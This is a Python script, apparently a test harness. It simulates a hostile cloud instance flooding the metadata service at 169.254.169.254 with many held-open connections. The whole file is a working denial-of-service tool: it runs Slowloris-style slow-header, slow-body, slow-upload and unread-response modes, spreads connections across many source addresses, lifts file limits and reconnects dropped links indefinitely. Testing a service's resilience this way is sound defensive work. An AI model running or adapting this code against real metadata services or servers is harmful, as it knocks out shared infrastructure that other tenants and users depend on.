"""What a hostile instance does: `python attack.py KIND COUNT`, inside it.

A third argument is the first of COUNT addresses: each connection has a source
of its own.

It needs nothing but Python's own library. Prints a line as soon as
all connections were tried once, and goes on until it is killed, at the lowest
priority: on a busy machine it would not get that far with it.
"""

from __future__ import annotations

import errno
import ipaddress
import itertools
import os
import resource
import selectors
import socket
import sys
import time
from collections.abc import Sequence

ADDRESS = ("169.254.169.254", 80)
# Connections that are opened at once, and how often it looks for lost ones.
_BATCH = 100
_AGAIN_S = 0.1

_POST = b"POST /latest/x HTTP/1.1\r\nHost: m\r\nContent-Length: %d\r\n\r\n"
_USER_DATA = b"GET /openstack/latest/user_data HTTP/1.1\r\nHost: m\r\n\r\n"
# What is said at first, and whether a byte follows each second.
KINDS = {
    "idle": (b"", False),
    "slow-headers": (b"GET /latest HTTP/1.1\r\nHost: m\r\nX-Slow: ", True),
    "slow-body": (_POST % 1000, True),
    # More of it than any buffer has room for is there at once.
    "slow-upload": (_POST % 1_000_000 + b"x" * 70_000, True),
    # Answers that nobody reads.
    "deaf": (_USER_DATA * 500, False),
    "asking": (_USER_DATA, False),
}


class Attack:
    """COUNT connections that are all opened, and opened again when lost."""

    def __init__(self, kind: str, count: int, first: str = "") -> None:
        base = int(ipaddress.ip_address(first)) if first else 0
        self._sources = itertools.cycle(
            (str(ipaddress.ip_address(base + n)), 0)
            for n in range(count if first else 1)
        )
        self._first, self._dribbles = KINDS[kind]
        self._is_deaf = kind == "deaf"
        self._count = count
        self._selector = selectors.DefaultSelector()
        self._links: dict[socket.socket, bool] = {}  # is it connected?

    def run(self) -> None:
        """Attack until killed."""
        for _ in range(self._count):
            self._open()
            if len(self._links) % _BATCH == 0:
                self._settle(0)
        self._settle(0.5)
        os.nice(19)
        print(len(self._links), flush=True)
        dribble_due = open_due = time.monotonic()
        while True:
            self._settle(_AGAIN_S / 2)
            now = time.monotonic()
            if now > open_due:
                open_due = now + _AGAIN_S
                lost = self._count - len(self._links)
                for _ in range(min(_BATCH, lost)):
                    self._open()
            if self._dribbles and now > dribble_due:
                dribble_due = now + 1
                for link, is_open in list(self._links.items()):
                    if is_open:
                        self._send(link, b"x")

    def _open(self) -> None:
        link = socket.socket()
        link.setblocking(False)
        link.bind(next(self._sources))
        code = link.connect_ex(ADDRESS)
        if code not in (0, errno.EINPROGRESS):
            link.close()
            return
        self._links[link] = False
        both = selectors.EVENT_READ | selectors.EVENT_WRITE
        self._selector.register(link, both)

    def _settle(self, timeout_s: float) -> None:
        for key, events in self._selector.select(timeout_s):
            link = key.fileobj
            assert isinstance(link, socket.socket)
            if events & selectors.EVENT_READ and not _hears(link):
                self._drop(link)
            elif events & selectors.EVENT_WRITE:
                self._links[link] = True
                self._selector.modify(link, selectors.EVENT_READ)
                self._send(link, self._first)
                if self._is_deaf and link in self._links:
                    self._selector.unregister(link)

    def _send(self, link: socket.socket, data: bytes) -> None:
        try:
            link.send(data)
        except BlockingIOError:
            pass
        except OSError:
            self._drop(link)

    def _drop(self, link: socket.socket) -> None:
        self._selector.unregister(link)
        del self._links[link]
        link.close()


def _hears(link: socket.socket) -> bool:
    """Take in what came over LINK; tell whether it is still there."""
    try:
        return bool(link.recv(65536))
    except BlockingIOError:
        return True
    except OSError:
        return False


def main(argv: Sequence[str]) -> None:
    """Attack as ARGV says: kind, number of connections."""
    kind, count, *first = argv
    files = int(count) + 100
    resource.setrlimit(resource.RLIMIT_NOFILE, (files, files))
    Attack(kind, int(count), *first).run()


if __name__ == "__main__":
    main(sys.argv[1:])
